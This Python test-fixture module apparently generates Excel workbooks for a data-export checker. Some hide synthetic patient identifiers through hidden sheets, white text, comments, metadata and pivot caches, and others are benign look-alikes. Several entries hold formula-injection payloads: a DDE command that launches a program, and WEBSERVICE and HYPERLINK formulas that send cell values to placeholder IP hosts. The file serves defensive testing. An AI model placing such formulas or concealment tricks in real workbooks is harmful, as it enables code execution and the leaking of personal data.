"""Workbooks whose sheets read well while something else travels along; and honest ones with the same features."""

from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference, ScatterChart, Series
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs3 import persons
from tests.airlock.outputs3.study import Study, Table
from tests.airlock.outputs3.themes import THEMES

Change = Callable[[Workbook, Worksheet, Study], None]


def _fill(sheet: Worksheet, table: Table) -> None:
    for row in [table.header, *table.rows]:
        sheet.append(row)


def _people(sheet: Worksheet, study: Study, count: int = 18) -> None:
    sheet.append(["nom", "prenom", "ddn", "ipp"])
    for _ in range(count):
        rng = study.rng
        sheet.append([persons.last(rng), persons.first(rng), persons.day(rng, (1940, 1990)), persons.ipp(rng)])


def _hidden_sheet(state: str) -> Change:
    def change(book: Workbook, sheet: Worksheet, study: Study) -> None:
        extra = book.create_sheet("_src" if state == "hidden" else "zz")
        _people(extra, study)
        extra.sheet_state = state

    return change


def _hidden_rows(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet.append(["Autre / other", 4, 3, ""])
    sheet.row_dimensions[sheet.max_row].hidden = True


def _hidden_column(book: Workbook, sheet: Worksheet, study: Study) -> None:
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row, 9, persons.nir(study.rng))
    sheet.column_dimensions["I"].hidden = True


def _white(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet["H14"] = f"{persons.last(study.rng).upper()} {persons.first(study.rng)} - {persons.phone(study.rng)}"
    sheet["H14"].font = Font(color="FFFFFFFF", size=8)


def _format(book: Workbook, sheet: Worksheet, study: Study) -> None:
    for row, n in enumerate((3, 5, 2, 7), start=3):
        sheet.cell(row, 8, n).number_format = ";;;"
    sheet["H2"] = "n exclus / excluded patients"


def _format_text(book: Workbook, sheet: Worksheet, study: Study) -> None:
    for row, n in enumerate((4, 6, 3), start=2):
        sheet.cell(row, 8, n).number_format = '[<10]"<10";0'
    sheet["H1"] = "patients"


def _comment(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet["B3"].comment = Comment(f"vérifié avec M. {persons.last(study.rng)} (dossier {persons.ipp(study.rng)})", "")


def _name(book: Workbook, sheet: Worksheet, study: Study) -> None:
    book.defined_names["cas_index"] = DefinedName("cas_index", attr_text=f'"{persons.nir(study.rng)}"')


def _list(book: Workbook, sheet: Worksheet, study: Study) -> None:
    names = ",".join(persons.name(study.rng) for _ in range(5))
    rule = DataValidation(type="list", formula1=f'"{names}"')
    rule.add("G2:G20")
    sheet.add_data_validation(rule)
    sheet["G1"] = "patient"


def _condition(book: Workbook, sheet: Worksheet, study: Study) -> None:
    fill = PatternFill("solid", bgColor="FFFFC7CE")
    sheet.conditional_formatting.add("A2:A40", FormulaRule(formula=[f'$A2="{persons.ipp(study.rng)}"'], fill=fill))


def _properties(book: Workbook, sheet: Worksheet, study: Study) -> None:
    book.properties.subject = f"Patient {persons.name(study.rng)}, NIR {persons.nir(study.rng)}"


def _footer(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet.oddFooter.left.text = f"Mme {persons.last(study.rng)}, née le 04/07/1951, {persons.address(study.rng)}"


def _formula(text: str) -> Change:
    def change(book: Workbook, sheet: Worksheet, study: Study) -> None:
        sheet["G4"] = text

    return change


def _points(book: Workbook, sheet: Worksheet, study: Study) -> None:
    data = book.create_sheet("graph")
    data.append(["dose_mg", "ALAT" if study.fr else "ALT"])
    for _ in range(44):
        data.append([study.rng.randint(5, 80), study.rng.randint(12, 240)])
    chart = ScatterChart()
    chart.series.append(
        Series(Reference(data, min_col=2, min_row=2, max_row=45), Reference(data, min_col=1, min_row=2, max_row=45))
    )
    sheet.add_chart(chart, "J2")


def _far(book: Workbook, sheet: Worksheet, study: Study) -> None:
    for i in range(15):
        sheet.cell(4000 + i, 60, f"{persons.name(study.rng)}; {persons.phone(study.rng)}")


_UNSAFE: tuple[tuple[str, str, Change], ...] = (
    ("hidden sheet", "sheet _src, hidden", _hidden_sheet("hidden")),
    ("very hidden sheet", "sheet zz, veryHidden", _hidden_sheet("veryHidden")),
    ("hidden row", "last row: 4 and 3 persons", _hidden_rows),
    ("hidden column", "column I: NIR", _hidden_column),
    ("white on white", "H14: name and phone", _white),
    ("hidden format", "H3:H6 ;;; small counts", _format),
    ("hidden format", "H2:H4 shown as <10, value kept", _format_text),
    ("cell comment", "B3: name and IPP", _comment),
    ("defined name", "cas_index: NIR", _name),
    ("data validation list", "names of patients", _list),
    ("conditional format", "rule holds an IPP", _condition),
    ("metadata", "subject: name and NIR", _properties),
    ("page footer", "name, birth date, address", _footer),
    ("formula injection", "G4: DDE", _formula("=cmd|'/C calc'!A0")),
    ("formula injection", "G4: WEBSERVICE", _formula('=WEBSERVICE("http://198.51.100.7/?q="&A2)')),
    ("formula injection", "G4: HYPERLINK", _formula('=HYPERLINK("http://198.51.100.9/x?v="&B2&C2,"détail")')),
    ("points of persons", "chart and sheet graph", _points),
    ("identifiers far away", "row 4000, column BH", _far),
)


def _bars(book: Workbook, sheet: Worksheet, study: Study) -> None:
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=5), titles_from_data=True)
    sheet.add_chart(chart, "H2")


def _sum(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet["G1"], sheet["G2"] = "controle" if study.fr else "check", "=SUM(B2:B6)"


def _yes_no(book: Workbook, sheet: Worksheet, study: Study) -> None:
    rule = DataValidation(type="list", formula1='"Oui,Non,Sans objet"')
    rule.add("G2:G9")
    sheet.add_data_validation(rule)


def _colour(book: Workbook, sheet: Worksheet, study: Study) -> None:
    rule = CellIsRule(operator="greaterThan", formula=["500"], fill=PatternFill("solid", bgColor="FFC6EFCE"))
    sheet.conditional_formatting.add("B2:C9", rule)


def _note(book: Workbook, sheet: Worksheet, study: Study) -> None:
    sheet["A1"].comment = Comment(study.say("Version 3, arrondi à 1 décimale", "Version 3, rounded to 1 decimal"), "")


def _range(book: Workbook, sheet: Worksheet, study: Study) -> None:
    book.defined_names["tableau"] = DefinedName("tableau", attr_text=f"'{sheet.title}'!$A$1:$D$7")


def _codes(book: Workbook, sheet: Worksheet, study: Study) -> None:
    codes = book.create_sheet("codes")
    codes.append(["concept_id", "vocabulary_id", "concept_code", "rank"])
    for rank, code in enumerate(("I50.0", "I50.1", "I50.9", "J81", "I11.0"), start=1):
        codes.append([int(persons.ipp(study.rng)), "ICD10", code, rank])


_SAFE: tuple[tuple[str, Change], ...] = (
    ("bar chart of large counts", _bars),
    ("a SUM formula", _sum),
    ("a list of Oui, Non", _yes_no),
    ("a coloured cell rule", _colour),
    ("a comment with a version", _note),
    ("a defined range", _range),
    ("concept ids of 10 digits beginning with 80", _codes),
)


def _macro(path: Path) -> None:
    """A workbook with a macro part, its content type and relation declared as Excel does."""
    with ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    kinds = parts["[Content_Types].xml"].decode()
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    kinds = kinds.replace(main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = kinds.replace("</Types>", vba + "</Types>").encode()
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Auto_Open"\r\n' * 20
    with ZipFile(path, "w", ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)


def _pivot(path: Path, study: Study) -> None:
    """A pivot cache that kept its source rows, without the sheet."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rows = "".join(
        f'<r><s v="{persons.name(study.rng)}"/><n v="{study.rng.randint(20, 88)}"/><s v="{persons.day(study.rng)}"/></r>'
        for _ in range(30)
    )
    with ZipFile(path, "a", ZIP_DEFLATED) as book:
        book.writestr(
            "xl/pivotCache/pivotCacheRecords1.xml",
            f'<?xml version="1.0"?><pivotCacheRecords {space} count="30">{rows}</pivotCacheRecords>',
        )


def write(shelf: Shelf) -> None:
    for number, (way, where, change) in enumerate(_UNSAFE):
        study = Study(shelf.random(f"excel-{number}"), THEMES[(number * 5 + 3) % len(THEMES)])
        path = shelf.unsafe(f"classeur_{number:02}.xlsx", way, where, study.theme.title, study.population())
        _book(path, study, change)
    for number, (tempts, change) in enumerate(_SAFE):
        study = Study(shelf.random(f"excel-safe-{number}"), THEMES[(number * 3 + 1) % len(THEMES)])
        path = shelf.safe(f"workbook_{number:02}.xlsx", tempts, study.theme.title, study.population())
        _book(path, study, change)
    study = Study(shelf.random("macro"))
    path = shelf.unsafe("tableau_bord.xlsm", "macro", "xl/vbaProject.bin", study.theme.title, study.population())
    _book(path, study, _sum)
    _macro(path)
    study = Study(shelf.random("pivot"))
    path = shelf.unsafe(
        "tcd_activite.xlsx", "pivot cache", "pivotCacheRecords1.xml", study.theme.title, study.population()
    )
    _book(path, study, _bars)
    _pivot(path, study)


def _book(path: Path, study: Study, change: Change) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = study.rng.choice(("Activité", "Summary", "Tableau 1", "Par annee"))
    _fill(sheet, study.years())
    change(book, sheet, study)
    _fill(book.create_sheet("OR"), study.regression())
    book.save(path)
